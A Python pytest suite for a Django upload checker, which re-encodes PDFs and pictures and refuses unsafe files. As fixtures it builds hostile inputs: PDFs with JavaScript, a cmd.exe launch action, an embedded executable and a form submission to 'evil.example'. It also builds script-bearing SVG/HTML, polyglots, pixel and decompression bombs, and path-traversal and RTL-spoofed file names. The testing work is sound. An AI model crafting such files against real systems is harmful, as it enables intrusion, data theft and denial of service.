"""Files from outside: judged by content, made anew, one sentence for each refusal."""

import errno
import importlib
import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import MemoryFileUploadHandler
from django.http.multipartparser import MultiPartParser
from django.test.client import BOUNDARY, encode_multipart
from PIL import Image, ImageFile

from mobility.common import uploads


def pdf(change=None, pages=1, **save):
    file = io.BytesIO()
    with pikepdf.new() as made:
        for _number in range(pages):
            made.add_blank_page()
        if change:
            change(made)
        made.save(file, **save)
    return file.getvalue()


def picture(kind="JPEG", size=(40, 20), **save):
    file = io.BytesIO()
    Image.new("RGB", size, (15, 76, 92)).save(file, kind, **save)
    return file.getvalue()


def zipped():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.html", "<script>alert(1)</script>")
    return file.getvalue()


def check(content, name="file.pdf", content_type="application/octet-stream"):
    return uploads.check(SimpleUploadedFile(name, content, content_type))


def code_of(content, name="file.pdf"):
    with pytest.raises(ValidationError) as refused:
        check(content, name)
    assert len(refused.value.messages) == 1
    return refused.value.code


def test_a_pdf_is_written_anew():
    kept = check(pdf(), "Søknad – Øyvind.pdf")
    assert kept.content_type == "application/pdf"
    assert kept.name == "Søknad – Øyvind.pdf"
    with pikepdf.open(io.BytesIO(kept.content)) as again:
        assert len(again.pages) == 1


def test_the_content_decides_and_not_the_name():
    kept = check(picture("PNG"), "cv.pdf")
    assert (kept.content_type, kept.name) == ("image/png", "cv.png")
    assert code_of(b"just text", "picture.png") == "kind"


def test_a_picture_loses_its_metadata_and_stands_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90 degrees
    exif[0x010E] = "Kari Haugseth, Storgata 1"
    kept = check(picture(exif=exif.tobytes()), "bilde.jpeg")
    with Image.open(io.BytesIO(kept.content)) as again:
        assert again.size == (20, 40)
        assert not again.getexif()
    assert b"Kari" not in kept.content


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_what_stands_behind_a_picture_is_gone(kind):
    kept = check(picture(kind) + b"secret behind the end")
    assert b"secret" not in kept.content


def active(key, value):
    """Puts a fresh copy into the PDF at hand: an object that was in another one is gone with it."""
    source = value.unparse()
    return lambda made: made.Root.__setitem__(key, made.make_indirect(pikepdf.Object.parse(source)))


ACTIVE = {
    "script when opened": active(
        "/OpenAction", pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))
    ),
    "script deep inside": active(
        "/AcroForm",
        pikepdf.Dictionary(
            Fields=pikepdf.Array(
                [pikepdf.Dictionary(AA=pikepdf.Dictionary(K=pikepdf.Dictionary(JS=pikepdf.String("x"))))]
            )
        ),
    ),
    "launch": active("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe"))),
    "embedded file": lambda made: made.attachments.__setitem__("a.exe", b"MZ"),
    "sends a form": active(
        "/OpenAction", pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F=pikepdf.String("http://evil.example"))
    ),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_a_pdf_that_does_something_is_refused(what):
    assert code_of(pdf(ACTIVE[what])) == "active"


def test_a_pdf_that_opens_at_a_page_is_fine():
    def goes(made):
        made.Root["/OpenAction"] = pikepdf.Array([made.pages[0].obj, pikepdf.Name("/Fit")])

    assert check(pdf(goes)).content_type == "application/pdf"


@pytest.mark.parametrize("user", ["secret", ""])
def test_an_encrypted_pdf_is_refused(user):
    assert code_of(pdf(encryption=pikepdf.Encryption(owner="owner", user=user))) == "encrypted"


def test_a_pdf_has_a_limit_of_pages():
    assert check(pdf(pages=uploads.PAGE_LIMIT)).content
    assert code_of(pdf(pages=uploads.PAGE_LIMIT + 1)) == "pages"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "kind"),
        (b"<!doctype html><script>alert(1)</script>", "kind"),
        (b" " + picture(), "kind"),
        (zipped(), "kind"),
        (b"GIF89a" + b"\0" * 50, "kind"),
        (b"%PDF-1.7 nothing more", "broken"),
        (b"\xff\xd8\xff nothing more", "broken"),
        (picture("PNG")[:60], "broken"),
        (picture() + b"<script>alert(1)</script>", "two_kinds"),
        (picture("PNG") + zipped(), "two_kinds"),
        (pdf() + zipped(), "two_kinds"),
        (pdf() + b"<html><body>", "two_kinds"),
    ],
)
def test_each_wrong_file_gets_its_own_sentence(content, code):
    assert code_of(content, "vitnemål.pdf") == code


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(uploads, "PIXEL_LIMIT", 799)
    content = picture(size=(40, 20))
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda *_args: pytest.fail("it was unpacked"))
    assert code_of(content) == "pixels"


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_picture_that_claims_a_billion_pixels_is_refused():
    content = bytearray(picture("PNG"))
    content[16:24] = struct.pack(">II", 40_000, 40_000)
    content[29:33] = struct.pack(">I", zlib.crc32(content[12:29]))
    assert code_of(bytes(content)) in {"pixels", "broken"}


def test_a_pdf_that_unpacks_to_gigabytes_ends_in_its_own_process(monkeypatch):
    monkeypatch.setattr(uploads, "CHECK_SECONDS", 20)
    many = zlib.compressobj(1)
    zeros = b"\0" * 2**22
    packed = b"".join(many.compress(zeros) for _part in range(300)) + many.flush()  # 1.2 GB
    bomb = b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(packed)).encode()
    bomb += b">>stream\n" + packed + b"\nendstream endobj\ntrailer<</Root 2 0 R>>\n%%EOF"
    assert code_of(bomb) == "broken"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\kari\\cv.pdf", "cv.pdf"),
        ("a\r\nb\x00.pdf", "ab.pdf"),
        ("fdp.\u202eexe.pdf", "fdp.exe.pdf"),
        ("o\u0308.pdf", "ö.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        (".pdf", "pdf.pdf"),
    ],
)
def test_names_are_made_harmless(name, kept):
    upload = SimpleUploadedFile("a.pdf", pdf())
    upload._name = name
    assert uploads.check(upload).name == kept


# --- on arrival -----------------------------------------------------------------------------------------------------
def receive(content, monkeypatch=None):
    body = encode_multipart(BOUNDARY, {"motivation": "Jeg vil", "attachment": SimpleUploadedFile("a.pdf", content)})
    meta = {"CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}", "CONTENT_LENGTH": len(body)}
    handlers = [MemoryFileUploadHandler(), uploads.CappedTemporaryFiles()]
    posted, files = MultiPartParser(meta, io.BytesIO(body), handlers).parse()
    return posted, files["attachment"]


def test_a_file_beyond_the_limit_is_counted_and_not_written(settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.UPLOAD_LIMIT_MB = 2
    posted, upload = receive(b"%PDF-" + b"0" * (5 * 1024**2))
    assert posted["motivation"] == "Jeg vil"
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValidationError) as refused:
        uploads.check(upload)
    assert refused.value.code == "too_large"
    assert "6 MB" in refused.value.messages[0]


def test_a_large_file_within_the_limit_arrives_whole(settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    content = b"%PDF-" + b"0" * (5 * 1024**2)
    _posted, upload = receive(content)
    assert upload.read() == content
    upload.close()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("at", ["start", "end"])
def test_a_full_disk_is_told_and_leaves_nothing(settings, tmp_path, monkeypatch, at):
    from django.core.files import uploadedfile, uploadhandler  # patched below

    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)

    def no_room(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    if at == "start":
        monkeypatch.setattr(uploadhandler, "TemporaryUploadedFile", no_room)
    else:
        monkeypatch.setattr(uploadedfile.TemporaryUploadedFile, "write", no_room, raising=False)
    posted, upload = receive(b"%PDF-" + b"0" * (3 * 1024**2))
    assert posted["motivation"] == "Jeg vil"
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValidationError) as refused:
        uploads.check(upload)
    assert refused.value.code == "no_room"


def test_half_a_picture_is_broken_also_after_a_pdf_was_made():
    """WeasyPrint tells Pillow, for the whole process, to take half pictures for whole ones."""
    importlib.import_module("weasyprint")
    assert code_of(picture("PNG")[:60], "half.png") == "broken"
